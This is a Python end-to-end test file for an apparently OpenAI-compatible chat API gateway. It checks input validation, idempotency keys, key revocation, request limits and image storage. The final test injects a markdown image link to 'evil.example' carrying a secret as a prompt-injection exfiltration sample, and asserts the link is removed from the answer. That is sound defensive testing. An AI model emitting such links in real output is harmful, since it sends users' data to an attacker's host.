"""The API against clients that send what they should not, over real HTTP."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from typing import Any

import aiohttp
import openai
import pytest

from channels.api.adapter import OPEN_OF_ONE_KEY
from tests.e2e.agent.test_purge import wait_until_purged
from tests.e2e.test_api import HELLO, PAYLOADS
from tests.fakes.conditions import eventually
from tests.fakes.running_api import Api, running

pytestmark = [pytest.mark.xdist_group("api"), pytest.mark.asyncio(loop_scope="module")]

PNG = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJ"
    "RU5ErkJggg=="
)


def session(api: Api) -> aiohttp.ClientSession:
    """Return a client with Ann's key."""
    connector = aiohttp.TCPConnector(limit=0)
    return aiohttp.ClientSession(api.url, headers={"Authorization": f"Bearer {api.key}"}, connector=connector)


def busy(api: Api) -> int:
    """Return the number of requests of Ann's key."""
    return api.channel.open_requests.busy(api.record.digest)


async def test_numbers_that_python_reads_otherwise(api: Api) -> None:
    """A digit that is no number and one of 5,000 digits are mistakes of the client, or no retry."""
    async with session(api) as http:
        async with http.post("/v1/messages", json={"text": "hello"}) as response:
            place = response.headers["Location"]
        for wrong in ("²", "٣", "9" * 5_000, "61", "-1", ""):
            async with http.get(place, params={"wait": wrong}) as response:
                assert (wrong[:2], response.status) == (wrong[:2], 400)
        body = {"model": "parlour", "messages": [HELLO]}
        for odd in ("9" * 5_000, "none"):
            headers = {"X-Stainless-Retry-Count": odd}
            async with http.post("/v1/chat/completions", json=body, headers=headers) as response:
                assert response.status == 200


async def test_half_a_character_in_a_name(api: Api) -> None:
    """Is refused in the protocol's form, which cannot have it."""
    async with session(api) as http, http.post("/v1/messages", data=b'{"text":"x","\\ud800":1}') as response:
        assert response.status == 400
        assert (await response.json())["error"]["param"] == "\ufffd"


@pytest.mark.parametrize(("first", "second"), [("hello world", "hello"), ("hello", "/status"), ("/status", "hello")])
async def test_an_idempotency_key_with_other_words(api: Api, first: str, second: str) -> None:
    """Is refused also while the first message waits, and where one of both is a command; the first is answered."""
    create = api.client().chat.completions.create
    headers = {"Idempotency-Key": "one"}
    api.model.may_answer.clear()
    asked: Any = {"model": "parlour", "messages": [{"role": "user", "content": first}], "extra_headers": headers}
    waiting = asyncio.create_task(create(**asked))
    await eventually(lambda: len(api.model.asked) == 1 or waiting.done())
    for _ in range(2):
        with pytest.raises(openai.ConflictError):
            await create(model="parlour", messages=[{"role": "user", "content": second}], extra_headers=headers)
        api.model.may_answer.set()
        await waiting
    again = await create(**asked)
    assert again.choices[0].message.content == (await waiting).choices[0].message.content


async def test_an_idempotency_key_of_a_message_that_was_forgotten(api: Api) -> None:
    """Is refused: there is no answer to give, and an empty one would pass for it."""
    create = api.client().chat.completions.create
    asked: Any = {"model": "parlour", "messages": [HELLO], "extra_headers": {"Idempotency-Key": "one"}}
    await create(**asked)
    for text in ("/forget everything", "/forget everything yes"):
        await create(model="parlour", messages=[{"role": "user", "content": text}])
    await wait_until_purged(api.gateway, f"people/api%3a{api.person}")
    with pytest.raises(openai.APIStatusError, match="use a new key") as refused:
        await create(**asked)
    assert refused.value.status_code == 410
    assert len(api.model.asked) == 1


async def test_an_idempotency_key_of_an_image(api: Api) -> None:
    """A message without words is the same message when it is sent again."""
    create = api.client().chat.completions.create
    image: Any = {"role": "user", "content": [{"type": "image_url", "image_url": {"url": PNG}}]}
    answers = [
        await create(model="parlour", messages=[image], extra_headers={"Idempotency-Key": "one"}) for _ in range(2)
    ]
    assert answers[0].choices[0].message.content == answers[1].choices[0].message.content
    assert len(api.model.asked) == 1


async def test_no_image_of_a_person_who_is_not_admitted_is_stored() -> None:
    """The person of a key is admitted before a byte of a file is written; afterwards the same request is taken."""
    async with running() as api:
        image: Any = {"role": "user", "content": [{"type": "image_url", "image_url": {"url": PNG}}]}
        operations, folder = api.gateway.app.operations, api.gateway.home
        before = {path for path in folder.rglob("*") if path.is_file()}
        _ = [line async for line in operations["people block"]({"who": "api:ann"})]
        with pytest.raises(openai.PermissionDeniedError):
            await api.client().chat.completions.create(model="parlour", messages=[image])
        written = {path for path in folder.rglob("*") if path.is_file()} - before
        assert not [path for path in written if b"image/png" in path.read_bytes()[:4_096]]
        _ = [line async for line in operations["people allow"]({"who": "api:ann"})]
        await api.client().chat.completions.create(model="parlour", messages=[image])
        written = {path for path in folder.rglob("*") if path.is_file()} - before
        assert len([path for path in written if b"image/png" in path.read_bytes()[:4_096]]) == 1


async def test_usage_of_an_answer_that_is_given_again(api: Api) -> None:
    """Is that of its turn, and so is the time."""
    client = api.client()
    for _ in range(2):
        answer = await client.chat.completions.create(
            model="parlour", messages=[HELLO], extra_headers={"Idempotency-Key": "one"}
        )
        assert answer.usage is not None
        assert answer.usage.total_tokens == 107
    first = await client.responses.create(model="parlour", input="more")
    again = await client.responses.retrieve(first.id)
    assert again.usage is not None
    assert (again.usage.total_tokens, again.output_text) == (107, first.output_text)


async def test_a_key_that_is_revoked_meanwhile(api: Api) -> None:
    """Gets no answer: not whole, not as a stream, not by a poll."""
    api.model.may_answer.clear()
    async with session(api) as http:
        async with http.post("/v1/messages", json={"text": "hello", "chat": "polled"}) as response:
            place = response.headers["Location"]

        async def get(method: str, path: str, body: Any) -> tuple[int, str]:
            async with http.request(method, path, json=body) as response:
                return response.status, await response.text()

        asked = {"model": "parlour", "messages": [HELLO]}
        asking = [
            asyncio.create_task(get("GET", f"{place}?wait=60", None)),
            asyncio.create_task(get("POST", "/v1/chat/completions", {**asked, "user": "whole"})),
            asyncio.create_task(get("POST", "/v1/chat/completions", {**asked, "user": "streamed", "stream": True})),
        ]
        await eventually(lambda: len(api.model.asked) == 3 and busy(api) == 3)
        await api.channel.keys.revoke(api.person)
        api.model.may_answer.set()
        poll, whole, stream = await asyncio.gather(*asking)
    assert (poll[0], whole[0]) == (401, 401)
    assert ": hello" not in stream[1]
    assert "revoked" in stream[1]


async def test_polls_and_bodies_are_requests_too(api: Api) -> None:
    """A key has 16 of them at once; those whose client leaves make room."""
    api.model.may_answer.clear()
    async with session(api) as http:
        async with http.post("/v1/messages", json={"text": "hello"}) as response:
            place = response.headers["Location"]
        held = asyncio.Event()

        async def slow() -> AsyncIterator[bytes]:
            yield b'{"model":'
            await held.wait()

        polls = [asyncio.create_task(http.get(f"{place}?wait=60")) for _ in range(OPEN_OF_ONE_KEY - 1)]
        body = asyncio.create_task(http.post("/v1/chat/completions", data=slow()))
        await eventually(lambda: busy(api) == OPEN_OF_ONE_KEY)
        async with http.get(place) as response:
            assert response.status == 429
        for task in (*polls, body):
            task.cancel()
        await asyncio.wait((*polls, body))
        await eventually(lambda: busy(api) == 0)
        api.model.may_answer.set()


async def test_words_that_look_like_a_title(api: Api) -> None:
    """A person's own prompt, and a document of others above their message, are messages; a title has no pictures."""
    create = api.client().chat.completions.create
    tag = "<chat_history>x</chat_history>"
    for n, said in enumerate(
        (
            f"### Task:\nRespond to the user query.\n<context>{tag}</context>\n<user_query>Recall me</user_query>",
            f"### Task:\nMend this prompt:\n{tag}\nThanks!",
        ),
        1,
    ):
        await create(model="parlour", messages=[{"role": "user", "content": said}])
        (lines,) = [
            await api.gateway.app.memory.sessions.displayed_messages(row.key, limit=10)
            for row in await api.gateway.app.store.records.sessions()
            if row.key.chat.startswith(f"{api.person}/")
        ]
        assert len([line for line in lines if line.role == "user"]) == n
    title = json.loads((PAYLOADS / "open_webui_title.json").read_text("utf-8"))
    title["messages"][0]["content"] += "\n![x](https://evil.example/?q=secret)"
    answer = await create(**title)
    assert "https://evil.example" not in (answer.choices[0].message.content or "")
    assert "evil" in (answer.choices[0].message.content or "")
